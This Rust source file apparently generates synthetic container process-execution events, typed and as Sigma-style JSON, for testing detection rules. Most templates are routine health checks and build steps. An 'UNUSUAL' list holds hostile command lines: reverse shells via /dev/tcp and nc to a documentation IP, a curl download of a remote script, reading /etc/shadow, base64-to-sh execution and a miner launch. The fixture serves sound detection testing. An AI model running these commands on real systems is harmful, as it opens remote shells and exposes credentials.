//! Program executions as hosts with containers see them: the same ones every time, typed or as JSON.
//!
//! Of a hundred, two are what the rules are about. Sources of the mix: entry points and health checks of common images,
//! package managers, build tools, shells of cron and of people.

use event::process::{Actor, Ancestor, Argv, Exec, Process};
use event::{BootTime, Event, Kind, Sensor, Text};
use std::fmt::Write;
use std::sync::Arc;

/// One execution.
pub struct Sample {
    pub number: u64,
    pub image: String,
    pub command_line: String,
    pub parent_image: String,
    pub parent_command_line: String,
    pub directory: String,
    pub uid: u32,
    pub container: u64,
}

/// Image, arguments, parent's image, parent's arguments. `#` is a number, `@` a word, `~` a path.
const USUAL: &[[&str; 4]] = &[
    ["/usr/bin/sleep", "#", "/bin/bash", "/entrypoint.sh"],
    [
        "/bin/sh",
        "-c /usr/local/bin/healthcheck --port # --path /~",
        "/usr/bin/containerd-shim-runc-v2",
        "-namespace moby -id @#",
    ],
    [
        "/usr/bin/curl",
        "-fsS http://localhost:#/healthz",
        "/bin/sh",
        "-c curl -fsS http://localhost:#/healthz || exit 1",
    ],
    ["/usr/bin/pg_isready", "-U postgres -d @ -h 127.0.0.1 -p 5432", "/usr/bin/dockerd", "-H fd://"],
    ["/usr/local/bin/node", "/app/dist/~.js --max-old-space-size=#", "/usr/local/bin/npm", "run start"],
    [
        "/usr/local/bin/python3.12",
        "-m gunicorn @.wsgi:application --workers # --bind 0.0.0.0:#",
        "/bin/sh",
        "/start.sh",
    ],
    [
        "/usr/lib/jvm/java-21/bin/java",
        "-Xmx#m -XX:+UseG1GC -Dspring.profiles.active=@ -jar /app/@.jar",
        "/usr/bin/tini",
        "-- java",
    ],
    ["/usr/sbin/nginx", "-g daemon off;", "/docker-entrypoint.sh", "nginx -g daemon off;"],
    ["/usr/local/bin/redis-cli", "-p # ping", "/bin/sh", "-c redis-cli -p # ping | grep PONG"],
    ["/bin/grep", "-q PONG", "/bin/sh", "-c redis-cli ping | grep -q PONG"],
    ["/usr/bin/awk", "{print $#}", "/bin/bash", "/opt/scripts/~.sh"],
    ["/bin/sed", "-e s/@/@/g /etc/@/~.conf", "/bin/bash", "/docker-entrypoint.d/#-@.sh"],
    ["/usr/bin/find", "/var/lib/@ -mtime +# -name *.log", "/usr/sbin/cron", "-f"],
    ["/bin/ls", "-la /srv/~", "/bin/bash", "-l"],
    ["/bin/cat", "/proc/#/status", "/usr/bin/node_exporter", "--path.procfs=/host/proc"],
    ["/usr/bin/git", "fetch --quiet origin @", "/usr/bin/git-sync", "--repo=https://git.example.com/@/@.git"],
    ["/usr/bin/make", "-j# @", "/bin/bash", "-e /builds/~/build.sh"],
    ["/usr/bin/gcc", "-O2 -Wall -c src/~.c -o build/~.o", "/usr/bin/make", "-j#"],
    [
        "/usr/lib/gcc/x86_64-linux-gnu/13/cc1",
        "-quiet -imultiarch x86_64-linux-gnu src/~.c -O2",
        "/usr/bin/gcc",
        "-O2 -c src/~.c",
    ],
    [
        "/usr/bin/apt-get",
        "install -y --no-install-recommends @",
        "/bin/sh",
        "-c apt-get update && apt-get install -y @",
    ],
    ["/usr/bin/dpkg", "--status-fd # --configure --pending", "/usr/bin/apt-get", "install -y @"],
    ["/usr/local/bin/kubectl", "get pods -n @ -o json", "/usr/local/bin/argo", "wait @-#"],
    ["/usr/bin/jq", "-r .items[].metadata.name", "/bin/bash", "/opt/~.sh"],
    [
        "/usr/bin/runc",
        "--root /var/run/docker/runtime-runc/moby start @#",
        "/usr/bin/containerd-shim-runc-v2",
        "-id @#",
    ],
    ["/usr/bin/tar", "-czf /backup/@-#.tar.gz /var/lib/@", "/usr/sbin/crond", "-n"],
    ["/usr/bin/rsync", "-a --delete /srv/~ backup.example.com::@", "/bin/sh", "/etc/cron.daily/@"],
    ["/usr/bin/php", "/var/www/html/artisan schedule:run --no-interaction", "/usr/sbin/cron", "-f"],
    ["/usr/bin/convert", "/uploads/~.png -resize #x# /uploads/~.thumb.png", "/usr/bin/php-fpm", "pool www"],
    ["/usr/bin/date", "+%Y-%m-%dT%H:%M:%S", "/bin/bash", "/opt/~.sh"],
    ["/usr/bin/id", "-u @", "/bin/sh", "/etc/init.d/@ status"],
    ["/usr/bin/hostname", "-i", "/bin/bash", "/docker-entrypoint.sh @"],
    [
        "/usr/local/bin/envoy",
        "-c /etc/envoy/~.yaml --concurrency #",
        "/usr/local/bin/pilot-agent",
        "proxy sidecar",
    ],
];

/// What the rules are about.
const UNUSUAL: &[[&str; 4]] = &[
    ["/usr/bin/curl", "-k -s https://198.51.100.7/~.sh -o /tmp/@", "/usr/sbin/apache2", "-k start"],
    ["/bin/bash", "-i >& /dev/tcp/203.0.113.9/# 0>&1", "/usr/bin/php-fpm", "pool www"],
    ["/bin/cat", "/etc/shadow", "/bin/bash", "-i"],
    ["/usr/bin/base64", "-d /tmp/@", "/bin/sh", "-c echo @ | base64 -d | sh"],
    ["/usr/bin/crontab", "-l", "/bin/bash", "-i"],
    ["/usr/bin/nc", "-e /bin/sh 203.0.113.9 #", "/bin/sh", "-i"],
    ["/usr/bin/chattr", "-i /etc/ld.so.preload", "/bin/bash", "/tmp/@.sh"],
    ["/usr/bin/nohup", "/tmp/@ --pool stratum+tcp://@.example.com:# --donate-level=1", "/bin/bash", "-i"],
];

/// The execution of this number.
pub fn sample(number: u64) -> Sample {
    let mut random = Random(number.wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let mixes = if random.below(100) < 2 { UNUSUAL } else { USUAL };
    let [image, arguments, parent, parent_arguments] = mixes[random.below(mixes.len())];
    let mut line = |image: &str, arguments: &str| {
        let mut line = image.rsplit('/').next().unwrap_or(image).to_owned();
        line.push(' ');
        fill(arguments, &mut random, &mut line);
        line
    };
    let command_line = line(image, arguments);
    let parent_command_line = line(parent, parent_arguments);
    let mut directory = String::from("/");
    fill(["", "app", "srv/~", "var/lib/@", "builds/~", "root"][random.below(6)], &mut random, &mut directory);
    Sample {
        number,
        image: image.to_owned(),
        command_line,
        parent_image: parent.to_owned(),
        parent_command_line,
        directory,
        uid: [0, 0, 33, 101, 999, 1000][random.below(6)],
        container: random.next() % 200,
    }
}

impl Sample {
    /// As an enriched event.
    pub fn event(&self) -> Event {
        let exec = Exec {
            path: Text::resolved(self.image.as_str()),
            cwd: Text::resolved(self.directory.as_str()),
            argv: Argv { args: self.command_line.split(' ').map(Into::into).collect(), ..Argv::default() },
            ..Exec::default()
        };
        let of = |path: &str, line: &str| {
            Arc::new(Ancestor {
                path: Text::resolved(path),
                command_line: line.into(),
                ..Ancestor::default()
            })
        };
        let exec = Arc::new(exec);
        let mut event = Event::new(Sensor::Kernel, BootTime(self.number * 1000), Kind::Exec(exec.clone()));
        event.id.sequence = self.number;
        event.actor = Some(Actor { pid: self.pid(), uid: self.uid, euid: self.uid, ..Actor::default() });
        event.context.process = Some(Arc::new(Process {
            own: of(&self.image, &self.command_line),
            ancestors: vec![of(&self.parent_image, &self.parent_command_line)],
            exec: Some(exec),
            ..Process::default()
        }));
        event
    }

    /// As a line of JSON with the names of Sigma's taxonomy.
    pub fn json(&self) -> String {
        let mut line = String::from("{");
        let pid = self.pid();
        let mut put = |name: &str, value: String| {
            let comma = if line.len() > 1 { "," } else { "" };
            let _ = write!(line, "{comma}\"{name}\":{value}");
        };
        let text = |text: &str| serde_json::to_string(text).expect("text is JSON");
        put("@timestamp", text(&format!("2026-01-{:02}T10:{:02}:00Z", 1 + pid % 28, pid % 60)));
        put("EventID", "1".into());
        put("ProcessGuid", text(&format!("{:032x}", u128::from(self.number) << 64 | u128::from(pid))));
        put("ProcessId", pid.to_string());
        put("Image", text(&self.image));
        put("CommandLine", text(&self.command_line));
        put("CurrentDirectory", text(&self.directory));
        put("User", text(if self.uid == 0 { "root" } else { "app" }));
        put("LogonId", self.uid.to_string());
        put("TerminalSessionId", "4294967295".into());
        put("IntegrityLevel", text("no level"));
        put("Hashes", text("-"));
        put("ParentProcessId", (pid / 2).to_string());
        put("ParentImage", text(&self.parent_image));
        put("ParentCommandLine", text(&self.parent_command_line));
        put("ParentUser", text("root"));
        put("host", format!("{{\"name\":\"node-{}\",\"os\":\"linux\"}}", self.container % 10));
        put(
            "container",
            format!(
                "{{\"id\":\"{:064x}\",\"name\":\"app-{}\",\"image\":\"registry.example.com/team/app:{}\"}}",
                self.container * 7919,
                self.container,
                self.container % 9
            ),
        );
        line.push('}');
        line
    }

    fn pid(&self) -> u32 {
        u32::try_from(self.number % 4_000_000).unwrap_or(0) + 300
    }
}

fn fill(template: &str, random: &mut Random, into: &mut String) {
    for letter in template.chars() {
        match letter {
            '#' => {
                let _ = write!(into, "{}", random.below(65_000));
            }
            '@' => random.word(into),
            '~' => {
                random.word(into);
                into.push('/');
                random.word(into);
            }
            other => into.push(other),
        }
    }
}

/// SplitMix64 (Steele, Lea, Flood, 2014).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mixed = (self.0 ^ self.0 >> 30).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        let mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ mixed >> 31
    }

    fn below(&mut self, limit: usize) -> usize {
        usize::try_from(self.next() % limit as u64).unwrap_or(0)
    }

    fn word(&mut self, into: &mut String) {
        const SYLLABLES: [&str; 24] = [
            "ab", "con", "der", "el", "fa", "gra", "hub", "in", "jo", "kel", "lum", "mo", "nex", "or", "pay",
            "qua", "ro", "ser", "tan", "ux", "ver", "web", "xi", "zo",
        ];
        for _ in 0..2 + self.below(2) {
            into.push_str(SYLLABLES[self.below(SYLLABLES.len())]);
        }
    }
}
